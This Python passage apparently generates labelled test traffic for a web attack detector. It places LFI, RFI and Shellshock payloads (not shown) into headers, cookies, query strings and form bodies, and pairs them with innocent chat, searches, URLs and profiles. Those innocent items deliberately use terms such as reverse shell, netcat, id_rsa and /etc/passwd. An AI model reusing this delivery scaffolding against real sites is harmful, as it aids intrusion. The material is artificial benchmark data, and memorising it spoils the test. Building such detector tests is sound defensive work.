    ("lfi", "log-poisoning-targets", LOG_POISON),
    ("lfi", "restricted-file-extensions", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", URL_IP),
    ("rfi", "url-with-trailing-question-mark", URL_QMARK),
    ("rfi", "include-parameter-with-url", INCLUDE_PARAM),
    ("rfi", "off-domain-reference", OFF_DOMAIN),
    ("rfi", "protocols", PROTOCOLS),
]
# `name=url` pairs, sent unquoted as a query string or form body
RAW_KV_SUBS = {"include-parameter-with-url"}
SUB_CYCLES = {
    "shellshock": (["header:User-Agent", "header:Referer", "cookie", "header:X-Api-Version"],
                   ["rs-header:User-Agent", "rs-header:Referer", "rs-cookie", "rs-header:X-Test-Header"]),
    "include-parameter-with-url": (["param-name", "form"], ["rs-param-name", "rs-raw-body"]),
}
# typed already URL-encoded: only the URL and the form body carry them as typed
PRE_CYCLES = (["query", "form", "path"], ["rs-query", "rs-form", "rs-path"])
PRE_ENCODED = re.compile(r"%(?:[0-9A-Fa-f]{2}|u[0-9A-Fa-f]{4})")

# ----------------------------------------------------------------------------------------------------------------
# Placements
REAL_NAMES = {
    "rce": ["host", "email", "filename", "q", "domain", "branch", "date", "name", "ip"],
    "lfi": ["file", "path", "template", "page", "download", "lang", "avatar", "doc", "attachment"],
    "rfi": ["url", "webhook", "callback", "import_url", "avatar_url", "page", "template", "include", "redirect"],
}
URL_SAFE = "/:._-~!$'()*,;@[]"


def _as_typed(value: str, safe: str) -> str:
    """Percent-encode what a URL cannot carry, keeping the %XX / %uXXXX escapes the hunter typed."""
    out = []
    i = 0
    while i < len(value):
        m = PRE_ENCODED.match(value, i)
        if m:
            out.append(m.group(0))
            i = m.end()
            continue
        out.append(urllib.parse.quote(value[i], safe=safe))
        i += 1
    return "".join(out)


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    real_cycle = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Api-Version",
                  "param-name", "xml", "multipart-field", "multipart-filename", "path"]
    upload = "GIF89a\x01\x00\x01\x00"
    raw_places = ("form", "param-name", "rs-param-name", "rs-raw-body")
    one_line = ("cookie", "rs-cookie", "multipart-filename")
    short = ("path", "rs-raw-body")

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if self.is_latin(sub, payload):
            return PRE_CYCLES
        return SUB_CYCLES.get(sub, (self.real_cycle, self.rs_cycle))

    def name(self, category: str, sub: str, k: int) -> str:
        return REAL_NAMES[category][k % len(REAL_NAMES[category])]

    def is_latin(self, sub: str, payload: str) -> bool:
        return sub not in RAW_KV_SUBS and PRE_ENCODED.search(payload) is not None   # here: typed URL-encoded

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return sub in RAW_KV_SUBS

    def enc(self, value: str, latin: bool = False, safe: str = "") -> str:
        """Percent-encode a value; one typed URL-encoded keeps its escapes (see is_latin)."""
        return _as_typed(value, URL_SAFE + safe) if latin else super().enc(value, False, safe)

    def _raw(self, p: Put) -> str:
        return _as_typed(p.v, self.kv_safe)   # a `name=url` pair keeps the escapes it was typed with

    def _p_rs_raw_body(self, p: Put) -> Record:
        return request("POST", p.path, self._raw(p) if p.raw else p.v, FORM)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios, searches, admin notes, links, profiles, uploads)
CHAT = [
    # bug bounty triage
    "thanks for the HackerOne report, we triaged it as medium and the fix ships Thursday",
    "the bounty for the path traversal in the export endpoint was paid out, $1,500",
    "reminder: scanners against production are out of scope, please use staging.example.com",
    "can someone look at the Bugcrowd submission about avatar uploads? I think it's a duplicate of #4812",
    "we closed the remote file inclusion report as N/A, nothing of ours runs PHP",
    "the researcher's PoC used a Burp Collaborator URL and we did see the DNS lookup in our logs",
    "the disclosure is public now, the report number is in the #security channel topic",
    "we pay bounties for RCE, SQLi and auth bypass; missing headers are informative only",
    "CVE-2014-6271 is Shellshock, it came up in the vendor security questionnaire again",
    "the advisory for the image library is out, we're already on the patched version 7.1.2",
    "the null byte bug in the CSV parser is fixed in 3.2.1, release notes are in the wiki",
    "Shellshock was 2014, the old CGI box was switched off years ago",
    "the command injection finding was in the ping diagnostics page of the old router UI, not our app",
    "retest done: the ../ in the filename is now rejected with a 400, closing the ticket",
    "the hunter asked for a retest window, Tuesday 14:00 UTC works for us",
    "we don't accept reports from automated scanners without a working proof of concept",
    # engineering chat
    "run `git pull && make test` before you push, CI is slow today",
    "cd ../frontend; npm install; npm run build fixed it for me",
    "use ping -c 4 8.8.8.8 to check, the office wifi drops packets",
    "curl -I https://example.com shows a 301 to www, that's expected",
    "wget the release tarball from the GitHub releases page, not from the mirror",
    "the PowerShell script for the laptop setup is in the IT wiki",
    "Get-ChildItem in PowerShell is basically ls, took me a while to get used to it",
    "the bash one-liner in the runbook counts the 500s per minute from the access log",
    "the logs are in /var/log/nginx on the old box, the new ones go to Loki",
    "don't commit the .env file, it's in .gitignore for a reason",
    "the .bak files on the shared drive can go, they're from 2019",
    "I restored the staging database from backup.sql, took about 20 minutes",
    "the include_path in php.ini on the legacy server points to /usr/share/php",
    "the ../ in the relative link broke the docs build, fixed in main",
    "the header.tpl template is missing on staging, can someone redeploy?",
    "the page parameter is 1-based, page=0 returns the first page too",
    "webhook URLs have to be https, plain http gets rejected by the form",
    "the OAuth callback URL is https://app.example.com/oauth/callback, don't change it",
    "my checkout is in ~/projects/weather-bot if you want to pair",
    "C:\\Users\\maria\\Downloads has the installer, run it as admin",
    "the SMB share \\\\fileserver\\finance is read-only for contractors",
    "the printing vendor is moving from FTP to SFTP next month",
    "the favicon is a data: URL inlined in the HTML head",
    "the reverse proxy config lives in the gateway repo, ask the platform team",
    "the /etc/hosts entry for staging is 10.0.3.14 in case DNS is flaky again",
    "whoami? the new intern on the data team, hi everyone \U0001f44b",
    "the nightly cron job writes its output to /tmp/report.log",
    "the deploy user's SSH key was rotated, update your ~/.ssh/config",
    "id_rsa is the old key type, please generate an ed25519 key instead",
    "boot.ini was a Windows XP thing, we don't support that installer anymore",
    "the Windows build runs cmd /c for the post-build step",
    "echo $PATH shows /usr/local/bin first, that's why the wrong python runs",
    "the pipe | in the search box is treated as OR",
    "the semicolon in the CSV export breaks Excel in the German locale",
    "Smith & Sons showed up as Smith &amp; Sons in the email, double escaping",
    "nc -zv db.internal 5432 tells you if the port is open",
    "socat is installed on the jump host for the port forwarding",
    "python3 -m http.server 8000 is the quickest way to share a folder on the LAN",
    "pipe it through tee to keep a copy: make build | tee build.log",
    "base64 -d the token and you'll see the payload, it's just JSON",
    "old IIS logs are in C:\\inetpub\\logs\\LogFiles, archived monthly",
    "the Apache access.log rotated at midnight, look at access.log.1",
    "PHP session files in /var/lib/php/sessions filled the disk, cleaned up",
    "the .htaccess on the marketing site redirects http to https",
    "the .git folder was exposed on the old marketing site in 2021, fixed since",
    "the app.config of the Windows client has the API endpoint in it",
    "settings.ini in the installer holds the proxy settings",
    "the avatar upload accepts png, jpg and gif up to 2 MB",
    "web.config on the IIS box has the rewrite rules for the old URLs",
    "sleep 5 between retries is enough, the API rate limit resets quickly",
    # the product
    "weather London",
    "weather São Paulo tomorrow",
    "config units metric",
    "alerts on",
]
SEARCHES = [
    "command injection", "path traversal", "reverse shell", "bug bounty", "hackerone", "bugcrowd", "powershell",
    "bash", "curl", "wget", "netcat", "win.ini", "web.config", "etc passwd", "boot.ini", ".env", "id_rsa",
    "htaccess", "null byte", "access.log", "smb share", "ftp", "webhook", "callback url", "template", "include",
    "Shellshock", "cmd.exe", "C:\\Users", "../docs", "O'Brien", "Smith & Sons", "Ana; Bob", "ping", "whoami",
    "Cat Stevens", "Tee Nguyen", "Dir Singh", "Ping Zhou", "Perl Jansen", "Shelly Bash", "Wendy Curl",
    "Remote Ltd", "Include Health", "Data Path Inc", "Log Cabin", "Proc Holdings", "Windows team", "sudo",
    "security@example.com",
]
PROSE = [
    "Customer forwarded a HackerOne report about our public status page; it belongs to the hosting vendor.",
    "Researcher asked whether the ping tool in the old admin is in scope. It was removed in 2022.",
    "User cannot open the exported file; the name contains a slash (Q1/Q2 report). Renamed and resent.",
    "Support: the webhook URL was rejected because it pointed to http:// instead of https://.",
    "Customer's IT blocks PowerShell scripts, sent them the manual install steps instead.",
    "Account owner asked for the access log of the last 30 days for their audit; exported as CSV.",
    "Ticket about the C:\\Program Files install path: the client needs admin rights on Windows.",
    "The callback URL in their integration still points to the old domain; they will update it.",
    "Bug bounty payout approved by finance for report 2291 (path traversal, high).",
    "Customer asked if we are affected by Shellshock. No: no CGI and bash is patched everywhere.",
    "The import URL for the CSV must be publicly reachable; Google Drive share links work.",
    "They use a reverse proxy in front of the bot; the X-Forwarded-For header is set correctly.",
    "The template for the weekly alert email was updated with the new logo.",
    "The researcher's report included a screenshot of /etc/passwd from a different company's server.",
    "Requested: remove the .bak files from the downloads page. Done, and added a deploy check.",
    "The FTP credentials for the legacy export were revoked; SFTP only from now on.",
    "User asked how to include a link in the alert message; markdown links work.",
    "Customer's avatar file name was too long (over 255 characters); asked them to rename it.",
    "Windows users see the path C:\\Users\\name\\AppData\\Local\\WeatherBot in the installer log.",
    "Security questionnaire: yes, we run a WAF; yes, we have a public bug bounty program.",
    "Confirmed with the hunter that the SMB share in the report was their own test box.",
    "The redirect after login goes to the page the user came from; only our own paths are allowed.",
    "Customer asked why their curl requests get a 403; their script sent no User-Agent.",
    "The data: image in the signature broke the email in Outlook; replaced with a hosted PNG.",
    "Refund processed for the duplicate invoice; customer notified.",
    "The release notes for 4.2 mention the fixed file download bug and the new alert times.",
    "Onboarding call with the Lisbon office moved to Thursday.",
    "The SSH key in the ticket was a public key, nothing to rotate.",
    "A user typed ../../ into the location field by accident; the bot answered 'unknown place'.",
    "Nightly backup completed: backup-2024-05-01.sql.gz, 1.2 GB.",
]
URLS = [
    "https://hackerone.com/reports/2291443",
    "https://hackerone.com/example/hacktivity",
    "https://bugcrowd.com/example-weather",
    "https://github.com/advisories/GHSA-4xq5-7pfh-8r2g",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://cwe.mitre.org/data/definitions/78.html",
    "https://cwe.mitre.org/data/definitions/22.html",
    "https://cwe.mitre.org/data/definitions/98.html",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.include.php",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-childitem",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/ping",
    "https://www.gnu.org/software/bash/manual/bash.html#Word-Splitting",
    "https://man7.org/linux/man-pages/man5/proc.5.html",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://curl.se/docs/manpage.html",
    "https://www.gnu.org/software/wget/manual/wget.html",
    "https://nginx.org/en/docs/http/ngx_http_log_module.html",
    "https://httpd.apache.org/docs/2.4/logs.html",
    "https://portswigger.net/web-security/file-path-traversal",
    "https://portswigger.net/web-security/os-command-injection",
    "https://portswigger.net/burp/documentation/collaborator",
    "https://example.com/files/report.pdf?download=1",
    "https://app.example.com/oauth/callback?state=af0ifjsldkj",
    "https://api.slack.com/events/message",
    "https://status.example.com/incidents/2024-05-14",
    "https://docs.example.com/webhooks#retries",
    "https://docs.example.com/import?format=csv&page=2",
]
PROFILES = [
    ("Ping Zhou", "12 Harbour Rd, Hong Kong"),
    ("Cat Thompson", "4 Mill Lane, York"),
    ("Tee Nguyen", "88 Le Loi, Ho Chi Minh City"),
    ("Wendy Curl", "19 Elm St, Dayton, OH"),
    ("Sid Shell", "7 Beach Rd, Perth"),
    ("Perl Jansen", "Keizersgracht 12, Amsterdam"),
    ("Dir Singh", "21 MG Road, Bengaluru"),
    ("Echo Park Florist", "1500 Sunset Blvd, Los Angeles"),
    ("Remote First Ltd", "Unit 2, 10 Canal St, Manchester"),
    ("Path Finder Tours", "Rua Augusta 40, Lisboa"),
    ("Windows & Doors GmbH", "Industriestraße 5, Stuttgart"),
    ("Log Cabin B&B", "Route 9, Lake Placid, NY"),
    ("O'Connor & Daughters", "3 Quay St, Galway"),
    ("Include Health", "200 Market St, San Francisco"),
    ("Smith; Jones LLP", "Suite 4, 1 Temple Row, Birmingham"),
    ("Zoë Bäcker", "Bahnhofstraße 1, Zürich"),
    ("Shelly Bash", "14 Rue Oberkampf, Paris"),
    ("Null Island Surf Shop", "Praia do Norte, Nazaré"),
    ("Template Studio", "Vesterbrogade 9, København"),
    ("The Tee Shop", "5 Castle St, Edinburgh"),
]
UPLOAD_NAMES = [
    "users.csv", "users (1).csv", "users_2024-05-01.csv", "team export.csv", "new-hires-Q2.csv",
    "contacts - Lisbon office.csv", "users.CSV", "Weather alerts list.csv", "import_v2.csv", "staff_list_final.csv",
    "pentest-report-2024-Q2.pdf", "hackerone-2291443-summary.pdf", "poc-screenshot.png", "burp-export.xml",
    "web.config.txt", "access-log-excerpt.txt", "security_questionnaire (filled).xlsx", "install.ps1.txt",
    "Smith & Sons users.csv", "O'Brien team.csv",
]
BENIGN_HEADERS = [
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Wget/1.21.4"),
    ("User-Agent", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4291"),
    ("User-Agent", "python-requests/2.31.0"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"),
    ("Referer", "https://hackerone.com/reports/2291443"),
    ("Referer", "https://bugcrowd.com/example-weather"),
    ("Referer", "https://www.google.com/search?q=bash+ping+loop+until+host+up"),
    ("Referer", "https://docs.example.com/webhooks#retries"),
    ("Referer", "https://app.example.com/admin/users?page=3&sort=-created"),
    ("X-Request-Id", "0b1e5f3a-9c2d-4e6f-8a7b-1c2d3e4f5a6b"),
    ("X-Forwarded-For", "198.51.100.77"),
    ("Accept-Language", "de-CH,de;q=0.9,en;q=0.7"),
    ("Cookie", "session=abc123; theme=light; last_page=%2Fadmin%2Fusers%3Fpage%3D2"),
    ("Cookie", "session=abc123; tz=America%2FNew_York; lang=en-US"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS,
                      "name,email\nAnn,ann@example.org\n")


if __name__ == "__main__":
    print_records(attacks(), benign())
